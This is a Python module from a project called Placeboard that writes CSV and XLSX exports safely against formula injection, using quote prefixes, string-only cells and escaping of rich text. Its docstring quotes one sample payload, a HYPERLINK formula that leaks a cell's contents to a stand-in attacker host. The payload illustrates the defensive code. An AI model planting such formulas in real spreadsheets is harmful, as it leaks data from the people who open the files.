"""The one writer of every CSV and XLSX file Placeboard produces, safe against formula injection.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, after a leading
tab or carriage return) as a formula, so text someone typed, such as a commentary of
`=HYPERLINK("http://evil.example/?leak="&B2,"Details")`, could run or leak data when a partner opens
the download. As OWASP recommends, such text is written inert:

- in CSV, with a leading single quote (`'=HYPERLINK(...)`); `restore()` takes it off again, and the
  importer's reader calls it, so exporting and importing again changes nothing. Text that already
  starts with quotes before one of those characters gets one more quote, so `restore()` is exact;
- in XLSX, as a plain string cell (type `s`, never `f`) with Excel's "quote prefix" set, the same as
  typing a leading `'` in Excel: the file holds the text itself, shown and read back unchanged, and
  editing the cell does not turn it into a formula. Every text cell is a string cell, so `#N/A` is text too.

Numbers (int, Decimal, float) stay numbers, negative ones included, and dates stay dates: only text
is neutralised. CSV is written row by row (`iter_csv`) and XLSX with XlsxWriter, a large workbook's rows
streamed to disk as they come (`Workbook`), so memory does not grow with a sheet's rows beyond the file
itself. Cells are styled by `Style`, a plain description, so no caller needs the spreadsheet library
(openpyxl, which reads uploads, is no longer used to write).
"""

import csv
import io
import math
import re
import shutil
import tempfile
import weakref
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal

# The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(text):
    """Whether a spreadsheet could run this text as a formula."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def neutralise(text):
    """Text for a CSV cell: a leading quote before anything a spreadsheet would run as a formula.

    Text made only of quotes and then such a character gains a quote too, so `restore` is its exact inverse."""
    stripped = text.lstrip(QUOTE)
    return QUOTE + text if is_formula_like(stripped) else text


def restore(text):
    """The text `neutralise` was given: one leading quote off, but only where `neutralise` added it."""
    if text.startswith(QUOTE) and is_formula_like(text.lstrip(QUOTE)):
        return text[1:]
    return text


def plain(value):
    """The exact figure as plain text, for files, form fields and the audit log: no thousands separators, no
    exponent and no trailing zeros (57.400000 → 57.4, 100 → 100); '' for None.

    The one rule for printing a figure plainly. It lives here, in core, so that this writer can use it
    without importing the performance app above it (tests/test_layers.py); the rest of Placeboard takes it
    as placeboard.performance.figures.plain."""
    if value is None:
        return ""
    text = format(Decimal(value).normalize(), "f")
    return "0" if text == "-0" else text


def number_text(value):
    """A number as plain text: Decimals by plain() (57.400000 → 57.4), ints as they are, floats by their
    shortest repr without a trailing .0."""
    if isinstance(value, Decimal):
        return plain(value)
    if isinstance(value, float):
        text = repr(value)
        return text[:-2] if text.endswith(".0") else text
    return str(value)


def is_number(value):
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def csv_text(value):
    """One value as CSV cell text: numbers as numbers, dates in ISO form, None blank, any other text made inert."""
    if value is None:
        return ""
    if is_number(value):
        return number_text(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """A file-like that keeps only what csv.writer last wrote: one row at a time."""

    def __init__(self):
        self.text = ""

    def write(self, text):
        self.text = text


def iter_csv(rows, *, bom=False, lineterminator="\r\n"):
    """The CSV text of rows (iterables of values), one row at a time, for a streaming response.

    With `bom`, a UTF-8 byte-order mark comes first, so Excel reads the file as UTF-8."""
    line = _Line()
    writer = csv.writer(line, lineterminator=lineterminator)
    if bom:
        yield "\ufeff"
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
        yield line.text


def write_csv(out, rows, **kwargs):
    """Writes rows as CSV to a text file-like (such as an HttpResponse)."""
    for text in iter_csv(rows, **kwargs):
        out.write(text)


def csv_bytes(rows, **kwargs):
    """The whole CSV as UTF-8 bytes."""
    out = io.StringIO()
    write_csv(out, rows, **kwargs)
    return out.getvalue().encode("utf-8")


# XlsxWriter writes a number with 16 significant digits ("%.16G"): 8.2 as 8.199999999999999, which reads
# back as the same float, but a figure with more digits than a float keeps would be rounded.
_XLSX_DIGITS = "{:.16G}"


def _read_back(number):
    """The figure a spreadsheet reads from a number as the writer writes it: the shortest decimal of the float
    that text stands for, as a spreadsheet shows it and Placeboard's importer reads it (repr)."""
    return Decimal(repr(float(_XLSX_DIGITS.format(number))))


def xlsx_value(value):
    """A value as the XLSX writer should store it: Decimals and ints as numbers (int or float) when the number
    written reads back as the same figure; a figure with more digits than a float keeps is written as its
    exact text, never rounded. A float that is not finite (no spreadsheet number can hold it) is text."""
    if isinstance(value, Decimal):
        if not value.is_finite():
            return plain(value)
        number = int(value) if value == value.to_integral_value() else float(value)
        return number if _read_back(number) == value else plain(value)
    if isinstance(value, int) and not isinstance(value, bool):
        return value if _read_back(value) == value else str(value)
    if isinstance(value, float) and not math.isfinite(value):
        return str(value)
    return value


@dataclass(frozen=True)
class Style:
    """How an XLSX cell looks, said plainly so that no caller needs the spreadsheet library: bold, a font
    size in points, a text colour and a solid fill as RRGGBB, and `wrap` for long text (wrapped and aligned
    to the top of its cell). Workbook turns each into the library's format once (Workbook._format)."""

    bold: bool = False
    size: float | None = None
    colour: str | None = None
    fill: str | None = None
    wrap: bool = False


BOLD = Style(bold=True)
WRAP = Style(wrap=True)


@dataclass(frozen=True, slots=True)
class Cell:
    """One value with its own style, for `Sheet.append` among plain values."""

    value: object
    style: Style | None = None


# How dates and times are shown: what openpyxl wrote before, so a download looks as it did.
_DATE_FORMATS = {"date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd h:mm:ss", "time": "h:mm:ss"}
_BAD_TITLE = re.compile(r"[\[\]:*?/\\]")


class Workbook:
    """An XLSX workbook, written with XlsxWriter, whose text cells are never formulas.

        book = Workbook()
        sheet = book.sheet("Return", widths=[12, 40], freeze="A2")
        sheet.append(["code", "title"], style=BOLD)
        sheet.append(["=1", sheet.cell(Decimal("-2.5"), style=Style(fill="FFF2CC"))])
        data = book.to_bytes()

    A workbook of up to MEMORY_CELLS cells is made in memory, which is quickest (some 17 MB at most while it
    is saved; a 300-row report is 5,000 cells). Once it has more, it goes on in XlsxWriter's constant-memory
    mode (the rows so far written first): each row goes to disk as it is appended, in a folder of this workbook's own that is removed when the file is made or the workbook
    dropped unsaved, so memory does not grow with a sheet's rows beyond the file itself. Either way rows are
    appended in order, a sheet's after the sheets before it. Every text cell is written with `write_string`
    (never `write`, which would make "=…" a formula), and the options that would turn text into formulas,
    links or numbers are off as well."""

    MEMORY_CELLS = 50_000

    def __init__(self):
        self.sheets = []
        self.book = None  # the XlsxWriter workbook: made when the workbook is saved or outgrows memory
        self._out = io.BytesIO()
        self._cells = 0
        self._titles = set()
        self._formats = {}
        self._folder = self._cleanup = None  # where a streamed workbook's rows wait, and its removal

    def sheet(self, title, *, widths=(), freeze=None):
        """A new sheet: its title made one Excel accepts (see _title), its columns' widths in characters and
        its frozen panes as the first cell that scrolls ("A2" keeps row 1 in view)."""
        sheet = Sheet(self, self._title(title), widths, freeze)
        self.sheets.append(sheet)
        if self.book is not None:
            sheet._open()
        return sheet

    def _title(self, title):
        """A sheet title Excel accepts: none of []:*?/\\, no apostrophe at either end, at most 31 characters
        (UTF-16 units) and, ignoring case, no other sheet's; "Sheet n" if nothing is left."""
        text = _BAD_TITLE.sub("-", str(title)).strip().strip("'").strip() or f"Sheet {len(self.sheets) + 1}"
        candidate, number = _fit_title(text, ""), 1
        while candidate.lower() in self._titles:
            number += 1
            candidate = _fit_title(text, f" {number}")
        self._titles.add(candidate.lower())
        return candidate

    def _held(self, cells):
        """Counts cells held in memory; past MEMORY_CELLS the rest of the workbook streams to disk."""
        self._cells += cells
        if self._cells > self.MEMORY_CELLS:
            self._make(streaming=True)

    def _make(self, *, streaming):
        import xlsxwriter  # lazy: only XLSX needs it, and figures.py, on every page, imports this module

        options = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
        if streaming:
            self._folder = tempfile.mkdtemp(prefix="placeboard-xlsx-")
            self._cleanup = weakref.finalize(self, shutil.rmtree, self._folder, ignore_errors=True)
            options.update(constant_memory=True, tmpdir=self._folder)
        else:
            options["in_memory"] = True
        self.book = xlsxwriter.Workbook(self._out, options)
        for sheet in self.sheets:
            sheet._open()

    def _format(self, style, kind=None):
        """The one XlsxWriter format of a style and a kind of value (None; "quote" for formula-like text,
        written with Excel's quote prefix; a date, datetime or time with its number format), made once."""
        key = (style, kind)
        made = self._formats.get(key, False)
        if made is not False:
            return made
        properties = {}
        if style is not None:
            if style.bold:
                properties["bold"] = True
            if style.size:
                properties["font_size"] = style.size
            if style.colour:
                properties["font_color"] = f"#{style.colour}"
            if style.fill:
                properties.update(pattern=1, bg_color=f"#{style.fill}")
            if style.wrap:
                properties.update(text_wrap=True, valign="top")
        if kind == "quote":
            properties["quote_prefix"] = True
        elif kind is not None:
            properties["num_format"] = _DATE_FORMATS[kind]
        made = self._formats[key] = self.book.add_format(properties) if properties else None
        return made

    def to_bytes(self):
        if not self.sheets:
            self.sheet("Sheet")  # a workbook has at least one sheet
        if self.book is None:
            self._make(streaming=False)
        try:
            self.book.close()
        finally:
            if self._cleanup is not None:
                self._cleanup()
        return self._out.getvalue()


def _fit_title(text, suffix):
    """text cut so that text + suffix is at most 31 UTF-16 units, Excel's limit for a sheet's title."""
    while len((text + suffix).encode("utf-16-le")) > 62:
        text = text[:-1]
    return text.rstrip().rstrip("'") + suffix


class Sheet:
    def __init__(self, workbook, title, widths, freeze):
        self.workbook = workbook
        self.title = title
        self.ws = None  # XlsxWriter's sheet, once the workbook has one (Workbook._make)
        self.rows = 0
        self._widths, self._freeze = widths, freeze
        self._waiting = []  # rows appended before then: (values, style)

    def cell(self, value, *, style=None):
        """A value with its own style, for `append` (to style one cell of a row)."""
        return Cell(value, style)

    def append(self, values, *, style=None):
        """Appends a row; values may be plain values (given `style`) or cells from `cell()`.

        Returns the number of rows the sheet now has."""
        self.rows += 1
        if self.ws is None:
            values = tuple(values)
            self._waiting.append((values, style))
            self.workbook._held(len(values))  # which may write this row and the ones before it
        else:
            self._write_row(self.rows - 1, values, style)
        return self.rows

    def _open(self):
        ws = self.ws = self.workbook.book.add_worksheet(self.title)
        for index, width in enumerate(self._widths):
            if width:
                ws.set_column(index, index, width)
        if self._freeze:
            ws.freeze_panes(self._freeze)
        waiting, self._waiting = self._waiting, None
        for row, (values, style) in enumerate(waiting):
            self._write_row(row, values, style)

    def _write_row(self, row, values, style):
        write = self._write
        for column, value in enumerate(values):
            if type(value) is Cell:
                write(row, column, value.value, value.style)
            else:
                write(row, column, value, style)

    def _write(self, row, column, value, style):
        """One cell, by the one rule: None and "" empty, numbers numbers (see xlsx_value), dates dates with
        their format, True and False booleans, anything else text; text always a string cell, with the quote
        prefix when a spreadsheet could run it as a formula."""
        if isinstance(value, str):  # the commonest, first
            return self._text(row, column, value, style)
        ws, fmt = self.ws, self.workbook._format
        if value is None:
            if style is not None:
                ws.write_blank(row, column, None, fmt(style))
            return
        if isinstance(value, bool):
            result = ws.write_boolean(row, column, value, fmt(style))
        elif isinstance(value, (int, float, Decimal)):
            number = xlsx_value(value)
            if isinstance(number, str):
                return self._text(row, column, number, style)
            result = ws.write_number(row, column, number, fmt(style))
        elif isinstance(value, datetime):
            result = ws.write_datetime(row, column, value, fmt(style, "datetime"))
        elif isinstance(value, date):
            result = ws.write_datetime(row, column, value, fmt(style, "date"))
        elif isinstance(value, time):
            result = ws.write_datetime(row, column, value, fmt(style, "time"))
        else:
            return self._text(row, column, str(value), style)
        _check(result, row)

    def _text(self, row, column, text, style):
        if not text:  # an empty cell, as no text is (styled if it has a style)
            if style is not None:
                _check(self.ws.write_blank(row, column, None, self.workbook._format(style)), row)
            return
        cell_format = self.workbook._format(style, "quote" if is_formula_like(text) else None)
        # XML has no bare carriage return (a reader sees a line feed), and XlsxWriter would write it as
        # _x000D_, which openpyxl, and so Placeboard's own importer, would read back literally.
        if "\r" in text:
            text = text.replace("\r\n", "\n").replace("\r", "\n")
        if text.startswith("<r>"):
            # XlsxWriter writes text of the form "<r>…</r>" into the sheet unescaped, as rich-text XML:
            # someone's note could add cells, formulas among them. Written as two runs in the cell's own
            # font, the text is escaped like any other.
            run = cell_format or _plain_format()
            parts = [run, text[:1], run, text[1:]] + ([cell_format] if cell_format else [])
            _check(self.ws.write_rich_string(row, column, *parts), row)
            return
        _check(self.ws.write_string(row, column, text, cell_format), row)


def _plain_format():
    from xlsxwriter.format import Format  # lazy, as in Workbook

    return Format()


def _check(result, row):
    """XlsxWriter answers a cell it could not write with a negative number rather than an error: -1 is past
    Excel's last row or column (the cell would be lost, so stop); -2, text cut at Excel's 32,767 characters."""
    if result == -1:
        raise ValueError(f"Row {row + 1} is beyond what a sheet can hold.")
